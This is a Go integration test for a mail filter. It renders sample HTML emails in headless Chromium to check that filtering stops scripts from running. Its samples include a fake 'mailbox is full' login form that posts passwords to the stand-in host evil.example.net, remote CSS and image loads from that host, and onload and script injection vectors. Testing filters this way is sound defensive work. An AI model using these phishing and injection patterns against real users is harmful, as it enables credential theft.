package integration

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/milterscan/milterscan/tests/sample"
)

// pictured are pages that act, and say in their title that they did.
var pictured = map[string]string{
	"newsletter": string(bytes.ReplaceAll(trackingNewsletter(), []byte("count()"), []byte(acted))),
	"login": asMail(`<html><body onload="` + acted + `"><h2>Your mailbox is full</h2><p>Please <a href="http://192.0.2.1/login">sign in at www.example.com</a>:</p>` +
		`<form action="http://evil.example.net/" method="post" style="background:#eef;padding:1em">Name <input name="n"> Password <input type="password" name="p"> <button onclick="` + acted + `">Sign in</button></form>` +
		`<iframe srcdoc="<b>embedded</b>" width="200" height="60"></iframe><object data="data:text/html,x">Your administrator</object></body></html>`),
	"styled": asMail(`<html><head><style>@import "http://evil.example.net/a.css"; h2{color:#060;background:url(http://evil.example.net/b.png)}</style></head>` +
		`<body><h2>Green</h2><p style="border:2px solid red;background:url(http://evil.example.net/c.png)">A red border</p><svg width="80" height="40" onload="` + acted + `"><circle cx="20" cy="20" r="18" fill="orange"/></svg>` +
		`<script>` + acted + `</script></body></html>`),
}

// acted is a script that tells that it ran.
const acted = "document.title='acted'"

func asMail(html string) string {
	return strings.Replace(string(sample.Plain("page", html)), "text/plain", "text/html", 1)
}

// TestScreenshots shows pages in a browser as they came and as they are delivered,
// in the directory MILTERSCAN_SCREENSHOTS. A page that acts does so before, and not
// after.
func TestScreenshots(t *testing.T) {
	dir := os.Getenv("MILTERSCAN_SCREENSHOTS")
	if dir == "" {
		t.Skip("set MILTERSCAN_SCREENSHOTS to a directory for pictures of pages")
	}
	for name, mail := range pictured {
		for when, m := range map[string][]byte{"before": []byte(mail), "after": filteredByHosting(t, []byte(mail))} {
			dom := browse(t, filepath.Join(dir, fmt.Sprintf("%s-%s.png", name, when)), pageOf(m))
			if ran := strings.Contains(dom, "<title>acted</title>"); ran != (when == "before") {
				t.Errorf("%s, %s: a script ran: %t\n%s", name, when, ran, dom)
			}
		}
	}
}

// pageOf is the page in a mail.
func pageOf(mail []byte) string {
	s := string(mail)
	i, j := strings.Index(s, "<html>"), strings.Index(s, "</html>")
	return s[i:j] + "</html>"
}

// browse takes a picture of a page and returns what has become of it. The browser
// reaches nobody.
func browse(t *testing.T, picture, html string) (dom string) {
	t.Helper()
	page := filepath.Join(t.TempDir(), "page.html")
	if err := os.WriteFile(page, []byte(html), 0o600); err != nil {
		t.Fatal(err)
	}
	common := []string{"--headless", "--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP * ~NOTFOUND", "--user-data-dir=" + t.TempDir(), "--window-size=700,420"}
	if out, err := exec.Command("chromium", append(common, "--screenshot="+picture, "file://"+page)...).CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	out, err := exec.Command("chromium", append(common, "--dump-dom", "file://"+page)...).Output()
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}
